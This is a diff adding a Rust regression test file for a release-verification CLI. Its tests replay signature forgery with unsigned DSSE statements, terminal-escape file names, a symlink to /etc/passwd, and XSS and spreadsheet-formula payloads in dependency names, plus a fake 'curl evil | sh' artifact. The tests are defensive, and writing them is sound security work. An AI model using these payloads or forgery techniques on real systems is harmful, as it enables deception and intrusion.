@@ -1,0 +1,383 @@
+//! The attacks that bent or forged a verdict (issue 11), each replayed against the real CLI:
+//! a genuine Sigstore message signature carrying a forged, unsigned DSSE statement; hostile
+//! names in artifact folders; odd artifact folders; a rollback presented as a change set; a
+//! tree git itself calls invalid; and markup or formulas in SOUP names.
+
+use std::path::{Path, PathBuf};
+
+use base64::Engine as _;
+use serde_json::{Value, json};
+use sha2::Digest as _;
+
+use crate::support::{Fixture, conformance_artifact, conformance_dir};
+
+const IDENTITY: &str = "https://github.com/sigstore-conformance/extremely-dangerous-public-oidc-beacon/.github/workflows/extremely-dangerous-oidc-beacon.yml@refs/heads/main";
+const ISSUER: &str = "https://token.actions.githubusercontent.com";
+const IMAGE: &str = "registry.example/build@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
+
+fn sha256_hex(data: &[u8]) -> String {
+    hex::encode(sha2::Sha256::digest(data))
+}
+
+/// `genuine` (a message-signature bundle whose signature really verifies) with an added,
+/// unsigned DSSE envelope carrying `statement`.
+fn confused(genuine: &Value, statement: &Value) -> Vec<u8> {
+    let mut b = genuine.clone();
+    b["dsseEnvelope"] = json!({
+        "payload": base64::engine::general_purpose::STANDARD.encode(serde_json::to_vec(statement).unwrap()),
+        "payloadType": "application/vnd.in-toto+json",
+        "signatures": [{"sig": "AAAA", "keyid": ""}],
+    });
+    serde_json::to_vec_pretty(&b).unwrap()
+}
+
+fn subjects(artifacts: &[(&str, &[u8])]) -> Value {
+    Value::Array(
+        artifacts
+            .iter()
+            .map(|(n, d)| json!({"name": n, "digest": {"sha256": sha256_hex(d)}}))
+            .collect(),
+    )
+}
+
+/// A forged evidence folder for `v1.0.0` of the fixture, every bundle a genuine message
+/// signature of `a.txt` plus a forged statement; self-consistent, so that a verifier reading
+/// the unsigned statements would find nothing wrong. Subjects: `a.txt` (first, so the keyless
+/// verifier is handed its digest) and `malware.sh`.
+fn forged_folder(f: &Fixture, genuine: &Value, a_txt: &[u8]) -> (PathBuf, PathBuf) {
+    let commit = f.git(&["rev-parse", "v1.0.0^{commit}"]);
+    let epoch: i64 = f
+        .git(&["log", "-1", "--format=%ct", "v1.0.0"])
+        .parse()
+        .unwrap();
+    let artifacts: [(&str, &[u8]); 2] = [("a.txt", a_txt), ("malware.sh", b"curl evil | sh\n")];
+    let dist = f.path("dist");
+    std::fs::create_dir_all(&dist).unwrap();
+    for (n, d) in &artifacts {
+        std::fs::write(dist.join(n), d).unwrap();
+    }
+    let subj = subjects(&artifacts);
+    let baseline = json!({
+        "_type": "https://in-toto.io/Statement/v1",
+        "subject": subj,
+        "predicateType": reprove_baseline::BASELINE_PREDICATE_TYPE,
+        "predicate": {
+            "project": {"name": "tiny"},
+            "release": {"tag": "v1.0.0", "commit": commit, "sourceDateEpoch": epoch},
+            "build": {"image": IMAGE, "command": ["make"], "artifacts": ["dist/*"]},
+            "policy": {"result": "pass"},
+            "findings": [],
+            "changes": {"commits": []},
+        }
+    });
+    let env: serde_json::Map<String, Value> = [
+        ("HOME", "/tmp".to_owned()),
+        ("LANG", "C.UTF-8".to_owned()),
+        ("LC_ALL", "C.UTF-8".to_owned()),
+        ("SOURCE_DATE_EPOCH", epoch.to_string()),
+        ("TZ", "UTC".to_owned()),
+    ]
+    .into_iter()
+    .map(|(k, v)| (k.to_owned(), Value::String(v)))
+    .collect();
+    let provenance = json!({
+        "_type": "https://in-toto.io/Statement/v1",
+        "subject": subj,
+        "predicateType": "https://slsa.dev/provenance/v1",
+        "predicate": {
+            "buildDefinition": {
+                "buildType": "https://reprove.dev/container-build/v1",
+                "externalParameters": {
+                    "source": {"tag": "v1.0.0", "repository": null},
+                    "recipe": {"image": IMAGE, "command": ["make"], "artifacts": ["dist/*"], "env": {}, "workdir": null, "timeout": 3600, "user": null}
+                },
+                "internalParameters": {
+                    "network": "none", "readOnlyRootFilesystem": true, "buildPath": "/build/src",
+                    "hostname": "reprove", "umask": "022", "sourceDateEpoch": epoch, "environment": env
+                },
+                "resolvedDependencies": [{"name": "source", "digest": {"gitCommit": commit}}]
+            },
+            "runDetails": {"builder": {"id": "https://reprove.dev/rebuilder/v1"}}
+        }
+    });
+    let ev = f.repo().join("evidence/v1.0.0");
+    std::fs::create_dir_all(&ev).unwrap();
+    let b = confused(genuine, &baseline);
+    let p = confused(genuine, &provenance);
+    std::fs::write(ev.join("baseline.sigstore.json"), &b).unwrap();
+    std::fs::write(ev.join("provenance.sigstore.json"), &p).unwrap();
+    let mut files: Vec<(&str, &[u8])> = vec![("a.txt", a_txt)];
+    files.push(("baseline.sigstore.json", &b));
+    files.push(("provenance.sigstore.json", &p));
+    let index = json!({
+        "_type": "https://in-toto.io/Statement/v1",
+        "subject": subjects(&files),
+        "predicateType": "https://reprove.dev/evidence-index/v0.1",
+        "predicate": {"tag": "v1.0.0", "commit": commit, "outcome": "released", "failures": []}
+    });
+    std::fs::write(ev.join("index.sigstore.json"), confused(genuine, &index)).unwrap();
+    // The index's first subject is `a.txt` (the keyless verifier is handed its digest), so the
+    // forged folder holds it too.
+    std::fs::write(ev.join("a.txt"), a_txt).unwrap();
+    (ev, dist)
+}
+
+fn run(f: &Fixture, args: &[&str]) -> (i32, String) {
+    let out = f.reprove(args);
+    (
+        out.status.code().unwrap_or(-1),
+        format!(
+            "{}{}",
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        ),
+    )
+}
+
+/// Regression (issue 11, critical): an evidence folder of genuine message signatures with
+/// forged, unsigned DSSE statements ended `verdict: verified`, keyless and with `--key`.
+#[test]
+fn a_genuine_signature_never_vouches_for_an_unsigned_statement() {
+    let Some(conf) = conformance_dir() else {
+        return;
+    };
+    let cases = conf.join("bundle-verify");
+    for (case, trust) in [
+        ("happy-path-v0.3", "identity"),
+        ("managed-key-happy-path", "key"),
+    ] {
+        let dir = cases.join(case);
+        let genuine: Value =
+            serde_json::from_slice(&std::fs::read(dir.join("bundle.sigstore.json")).unwrap())
+                .unwrap();
+        let artifact = conformance_artifact(&conf, &dir);
+        let a_txt = std::fs::read(&artifact).unwrap();
+        let f = Fixture::new();
+        f.write("README", "x\n");
+        f.commit("one\n\nReviewed-by: R <r@example.com>");
+        f.tag("v1.0.0");
+        let (ev, dist) = forged_folder(&f, &genuine, &a_txt);
+        let mut trust_args: Vec<String> = match trust {
+            "key" => vec!["--key".into(), dir.join("key.pub").display().to_string()],
+            _ => vec![
+                "--certificate-identity".into(),
+                IDENTITY.into(),
+                "--certificate-oidc-issuer".into(),
+                ISSUER.into(),
+            ],
+        };
+        if dir.join("trusted_root.json").exists() {
+            trust_args.push("--trusted-root".into());
+            trust_args.push(dir.join("trusted_root.json").display().to_string());
+        }
+        let t: Vec<&str> = trust_args.iter().map(String::as_str).collect();
+
+        // The genuine bundle alone verifies; with the envelope added it is a bad bundle.
+        let key_or_id: Vec<&str> = t.clone();
+        let mut args = vec!["verify-bundle", "--bundle"];
+        let genuine_path = dir.join("bundle.sigstore.json");
+        let gp = genuine_path.display().to_string();
+        args.push(&gp);
+        args.extend(&key_or_id);
+        let ap = artifact.display().to_string();
+        args.push(&ap);
+        let (c, out) = run(&f, &args);
+        assert_eq!(c, 0, "{case}: the genuine bundle verifies: {out}");
+        let forged = ev.join("baseline.sigstore.json").display().to_string();
+        let mut args = vec!["verify-bundle", "--bundle", &forged];
+        args.extend(&key_or_id);
+        args.push(&ap);
+        let (c, out) = run(&f, &args);
+        assert_eq!(c, 1, "{case}: {out}");
+        assert!(out.contains("bad-bundle"), "{case}: {out}");
+
+        // verify, in the clone, with the artifacts (among them malware.sh).
+        let d = dist.display().to_string();
+        let mut args = vec!["verify", "v1.0.0", "--artifacts", &d];
+        args.extend(&t);
+        let (c, out) = run(&f, &args);
+        assert_eq!(c, 1, "{case}: {out}");
+        assert!(out.contains("verdict: FAILED"), "{case}: {out}");
+        assert!(out.contains("bad-bundle"), "{case}: {out}");
+
+        // status, report and diff with the same trust; images check --baseline with the key.
+        let mut args = vec!["status"];
+        args.extend(&t);
+        let (c, out) = run(&f, &args);
+        assert_eq!(c, 1, "{case}: {out}");
+        assert!(out.contains("v1.0.0  invalid"), "{case}: {out}");
+        let report = f.path("report.md").display().to_string();
+        let mut args = vec!["report", "v1.0.0", "--format", "markdown", "-o", &report];
+        args.extend(&t);
+        let (c, out) = run(&f, &args);
+        assert_eq!(c, 1, "{case}: {out}");
+        if trust == "key" {
+            let key = dir.join("key.pub").display().to_string();
+            let (c, out) = run(&f, &["diff", &forged, &forged, "--key", &key]);
+            assert_eq!(c, 2, "{case}: {out}");
+            assert!(out.contains("exactly one"), "{case}: {out}");
+            let (c, out) = run(
+                &f,
+                &["images", "check", "--baseline", &forged, "--key", &key],
+            );
+            assert_eq!(c, 2, "{case}: {out}");
+            assert!(out.contains("exactly one"), "{case}: {out}");
+        }
+    }
+}
+
+/// A name from the artifacts folder or the evidence never reaches the terminal raw.
+#[test]
+fn hostile_names_cannot_rewrite_the_terminal() {
+    let Some(r) = crate::release::Release::new(crate::release::BUILD, true) else {
+        return;
+    };
+    let dist = r.publish("v1.0.0", "dist");
+    r.expect(
+        &[
+            "release",
+            "v1.0.0",
+            "--artifacts",
+            &dist,
+            "--key",
+            &r.p("k.key"),
+        ],
+        0,
+    );
+    // A file whose name would erase the FAIL line and print a fake pass.
+    let evil = "x\u{1b}[1A\u{1b}[2K\r  pass     artifact-digests  all good\u{202e}";
+    std::fs::write(Path::new(&dist).join(evil), b"x").unwrap();
+    for args in [
+        vec![
+            "verify",
+            "v1.0.0",
+            "--artifacts",
+            &dist,
+            "--key",
+            &r.p("k.pub"),
+        ],
+        vec!["rebuild", "v1.0.0", "--artifacts", &dist],
+    ] {
+        let (c, out, err) = r.run(&args);
+        assert_eq!(c, 1, "{args:?}: {out}{err}");
+        for text in [&out, &err] {
+            assert!(
+                !text.contains('\u{1b}') && !text.contains('\r') && !text.contains('\u{202e}'),
+                "{args:?} printed a control character: {text:?}"
+            );
+        }
+        assert!(
+            out.contains("\\u{1b}[1A"),
+            "{args:?}: the name is shown escaped: {out}"
+        );
+    }
+}
+
+/// `release` and `rebuild` refuse an artifacts folder that is empty, missing, or holds
+/// anything but regular files — before building, writing nothing.
+#[test]
+fn odd_artifact_folders_are_refused_before_building() {
+    let Some(r) = crate::release::Release::new(crate::release::BUILD, true) else {
+        return;
+    };
+    let empty = r.p("empty");
+    std::fs::create_dir_all(&empty).unwrap();
+    let with_link = r.p("linked");
+    std::fs::create_dir_all(&with_link).unwrap();
+    std::fs::write(Path::new(&with_link).join("a"), b"a").unwrap();
+    std::os::unix::fs::symlink("/etc/passwd", Path::new(&with_link).join("passwd")).unwrap();
+    let missing = r.p("missing");
+    for (dir, why) in [
+        (empty.as_str(), "holds no files"),
+        (missing.as_str(), "No such file"),
+        (with_link.as_str(), "is a symlink"),
+    ] {
+        let (c, out, err) = r.run(&[
+            "release",
+            "v1.0.0",
+            "--artifacts",
+            dir,
+            "--key",
+            &r.p("k.key"),
+        ]);
+        assert_eq!(c, 2, "{dir}: {out}{err}");
+        assert!(err.contains(why), "{dir}: {err}");
+        assert!(!r.evidence("v1.0.0").exists(), "nothing is written");
+        let leftovers: Vec<_> = std::fs::read_dir(r.f.repo().join("evidence"))
+            .map(|d| d.flatten().map(|e| e.file_name()).collect())
+            .unwrap_or_default();
+        assert!(leftovers.is_empty(), "{leftovers:?}");
+        let (c, _, err) = r.run(&["rebuild", "v1.0.0", "--artifacts", dir]);
+        assert_eq!(c, 2, "{dir}: {err}");
+        assert!(!err.contains("building"), "refused before building: {err}");
+    }
+}
+
+/// `diff OLD NEW` with NEW older than OLD says so and fails, instead of a clean change set.
+#[test]
+fn a_rollback_is_not_a_clean_change_set() {
+    let f = Fixture::new();
+    f.write("a.txt", "1\n");
+    f.commit("one\n\nReviewed-by: R <r@example.com>");
+    f.tag("v1.0.0");
+    f.write("a.txt", "2\n");
+    f.commit("two\n\nReviewed-by: R <r@example.com>");
+    f.tag("v1.1.0");
+    let (c, out) = run(&f, &["diff", "v1.1.0", "v1.0.0"]);
+    assert_eq!(c, 1, "{out}");
+    assert!(out.contains("rollback: `v1.0.0`"), "{out}");
+    let (c, out) = run(&f, &["diff", "v1.0.0", "v1.1.0"]);
+    assert_eq!(c, 0, "{out}");
+    assert!(!out.contains("rollback"), "{out}");
+}
+
+/// A tree `git fsck` refuses is a baseline finding, not a silent manifest.
+#[test]
+fn an_invalid_tree_is_a_baseline_finding() {
+    let f = Fixture::new();
+    let blob = f.git(&["hash-object", "-w", "--stdin"]);
+    let mut raw = Vec::new();
+    for _ in 0..2 {
+        raw.extend_from_slice(b"100644 dup\0");
+        raw.extend_from_slice(&hex::decode(&blob).unwrap());
+    }
+    std::fs::write(f.path("tree.raw"), &raw).unwrap();
+    let tree = f.git(&[
+        "hash-object",
+        "-t",
+        "tree",
+        "--literally",
+        "-w",
+        f.path("tree.raw").to_str().unwrap(),
+    ]);
+    let commit = f.git(&["commit-tree", &tree, "-m", "dup"]);
+    f.git(&["tag", "v1.0.0", &commit]);
+    let v = f.json(&["baseline", "v1.0.0", "--format", "json"], 0);
+    let codes: Vec<&str> = v["predicate"]["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["code"].as_str().unwrap())
+        .collect();
+    assert!(codes.contains(&"invalid-tree"), "{codes:?}");
+}
+
+/// SOUP names and file names with markup or spreadsheet formulas are inert in every output.
+#[test]
+fn markup_and_formulas_are_inert() {
+    let f = Fixture::new();
+    f.write(
+        "package-lock.json",
+        r#"{"name":"x","lockfileVersion":3,"packages":{"":{"dependencies":{"=HYPERLINK(\"http://e.example\")":"1.0.0","<img src=x onerror=alert(1)>":"1.0.0"}},"node_modules/=HYPERLINK(\"http://e.example\")":{"version":"1.0.0","resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz","integrity":"sha512-AAAA"},"node_modules/<img src=x onerror=alert(1)>":{"version":"1.0.0","resolved":"https://registry.npmjs.org/b/-/b-1.0.0.tgz","integrity":"sha512-AAAA"}}}"#,
+    );
+    f.write("[click](http://e.example).md", "x\n");
+    f.commit("one\n\nReviewed-by: R <r@example.com>");
+    f.tag("v1.0.0");
+    let csv = f.ok(&["soup", "v1.0.0", "--format", "csv"], 0);
+    assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
+    let md = f.ok(&["soup", "v1.0.0", "--format", "markdown"], 0);
+    assert!(!md.contains("<img"), "{md}");
+    let bmd = f.ok(&["baseline", "v1.0.0", "--format", "markdown"], 0);
+    assert!(!bmd.contains("[click](http"), "{bmd}");
+    assert!(bmd.contains("\\[click\\](http"), "{bmd}");
+}
